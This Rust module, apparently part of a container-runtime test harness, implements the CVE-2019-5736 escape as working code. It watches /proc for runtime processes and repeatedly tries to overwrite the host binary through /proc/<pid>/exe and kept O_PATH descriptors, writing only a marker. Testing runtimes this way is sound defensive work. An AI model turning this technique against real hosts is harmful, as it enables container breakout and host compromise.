//! `overwrite-exe FIFO STOP`: the CVE-2019-5736 attacker. From inside a
//! container it watches for every new process (a runtime `exec` shows up
//! there before it runs the user's command), grabs `/proc/<pid>/exe`, tries
//! to open it for writing at once, and again and again through the kept
//! `O_PATH` descriptor and `/proc/self/fd/N`, until told to stop (by then
//! no runtime process keeps a host binary busy). A process run as `/proc/self/exe ...
//! --log FIFO` is held up by FIFO (the runtime opening FIFO as its `--log` blocks
//! until a reader comes), so that one is always caught: the attacker opens
//! FIFO for reading only once it holds that process's executable. It stops
//! when the file STOP exists.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;
use std::time::Duration;

use rustix::fs::{Mode, OFlags};
use serde_json::{json, Value};

use crate::actions::Outcome;

/// What the attacker wrote where it could (never reaches a file when the
/// runtime is safe).
const MARKER: &[u8] = b"WHARF-PWNED";

/// One process the attacker saw and what it tried on its executable.
struct Victim {
    exe: String,
    cmdline: String,
    path_fd: Option<OwnedFd>,
    path_errno: Option<i32>,
    open_write_errno: Option<i32>,
    reopen_errnos: BTreeSet<i32>,
    write_errno: Option<i32>,
    wrote: bool,
    retries: u64,
    final_errno: Option<i32>,
}

impl Victim {
    fn to_json(&self, pid: i32) -> Value {
        json!({
            "pid": pid,
            "exe": self.exe,
            "cmdline": self.cmdline,
            "path_fd": self.path_fd.is_some(),
            "path_errno": self.path_errno,
            "open_write_errno": self.open_write_errno,
            "reopen_errnos": self.reopen_errnos,
            "write_errno": self.write_errno,
            "wrote": self.wrote,
            "retries": self.retries,
            "final_errno": self.final_errno,
        })
    }
}

fn errno(e: rustix::io::Errno) -> Option<i32> {
    Some(e.raw_os_error())
}

/// Opens `path` for writing and writes the marker at offset 0; the errno
/// of whichever step failed, or `None` when the write went through.
fn try_write(path: &str) -> (Option<i32>, Option<i32>) {
    let fd = match rustix::fs::open(path, OFlags::WRONLY | OFlags::CLOEXEC, Mode::empty()) {
        Ok(fd) => fd,
        Err(e) => return (errno(e), None),
    };
    match rustix::io::pwrite(&fd, MARKER, 0) {
        Ok(_) => (None, None),
        Err(e) => (None, errno(e)),
    }
}

fn pids() -> Vec<i32> {
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| e.file_name().to_str().and_then(|n| n.parse().ok()))
        .collect()
}

/// Looks at `pid` again: a process that has exec'd since (its command line
/// changed) is a new victim.
fn watch(pid: i32, victims: &mut BTreeMap<(i32, String), Victim>, me: i32) {
    if pid == me {
        return;
    }
    let cmdline = fs::read(format!("/proc/{pid}/cmdline"))
        .map(|b| String::from_utf8_lossy(&b).replace('\0', " "))
        .unwrap_or_default();
    if cmdline.is_empty() || victims.contains_key(&(pid, cmdline.clone())) {
        return;
    }
    let exe_path = format!("/proc/{pid}/exe");
    let exe = fs::read_link(&exe_path)
        .map(|p| p.to_string_lossy().into_owned())
        .unwrap_or_default();
    let (path_fd, path_errno) =
        match rustix::fs::open(&exe_path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) {
            Ok(fd) => (Some(fd), None),
            Err(e) => (None, errno(e)),
        };
    let (open_write_errno, write_errno) = try_write(&exe_path);
    let wrote = open_write_errno.is_none() && write_errno.is_none();
    victims.insert(
        (pid, cmdline.clone()),
        Victim {
            exe,
            cmdline,
            path_fd,
            path_errno,
            open_write_errno,
            reopen_errnos: BTreeSet::new(),
            write_errno,
            wrote,
            retries: 0,
            final_errno: None,
        },
    );
}

/// Tries the write again, through `/proc/self/fd/N` on the kept `O_PATH`
/// descriptor, for every caught executable: each round (while a runtime
/// still runs it, `ETXTBSY` is expected) and a last time when told to stop,
/// when no runtime process is left to keep it busy.
fn retry(victims: &mut BTreeMap<(i32, String), Victim>, last: bool) {
    for v in victims.values_mut() {
        let Some(fd) = &v.path_fd else { continue };
        if v.wrote {
            continue;
        }
        let (open_errno, write_errno) = try_write(&format!("/proc/self/fd/{}", fd.as_raw_fd()));
        v.retries += 1;
        v.reopen_errnos.extend(open_errno);
        if open_errno.is_none() {
            v.write_errno = write_errno;
            v.wrote |= write_errno.is_none();
        }
        if last {
            v.final_errno = open_errno.or(write_errno);
        }
    }
}

/// `overwrite-exe FIFO STOP` (see the module documentation).
pub fn overwrite_exe(fifo: &str, stop: &str) -> Outcome {
    let me = rustix::process::getpid().as_raw_nonzero().get();
    let _ = rustix::fs::mknodat(
        rustix::fs::CWD,
        fifo,
        rustix::fs::FileType::Fifo,
        Mode::from_raw_mode(0o666),
        0,
    );
    let mut victims = BTreeMap::new();
    let mut reader: Option<OwnedFd> = None;
    let mut rounds = 0u64;
    loop {
        let stopping = Path::new(stop).exists();
        for pid in pids() {
            watch(pid, &mut victims, me);
        }
        // The runtime is held once it runs as the container's command
        // (argv[0] /proc/self/exe) and the attacker has tried its exe.
        let held = victims
            .values()
            .any(|v| v.cmdline.starts_with("/proc/self/exe") && v.cmdline.contains(fifo));
        if held && reader.is_none() {
            reader = rustix::fs::open(
                fifo,
                OFlags::RDONLY | OFlags::NONBLOCK | OFlags::CLOEXEC,
                Mode::empty(),
            )
            .ok();
        }
        if let Some(r) = &reader {
            let mut buf = [0u8; 4096];
            while matches!(rustix::io::read(r, &mut buf), Ok(n) if n > 0) {}
        }
        retry(&mut victims, stopping);
        if stopping {
            break;
        }
        rounds += 1;
        std::thread::sleep(Duration::from_micros(200));
    }
    let seen: Vec<Value> = victims.iter().map(|((p, _), v)| v.to_json(*p)).collect();
    let writes_ok = victims.values().filter(|v| v.wrote).count();
    let mut out = serde_json::Map::new();
    out.insert("seen".into(), Value::Array(seen));
    out.insert("released".into(), json!(reader.is_some()));
    out.insert("writes_ok".into(), json!(writes_ok));
    out.insert("rounds".into(), json!(rounds));
    Ok(out)
}
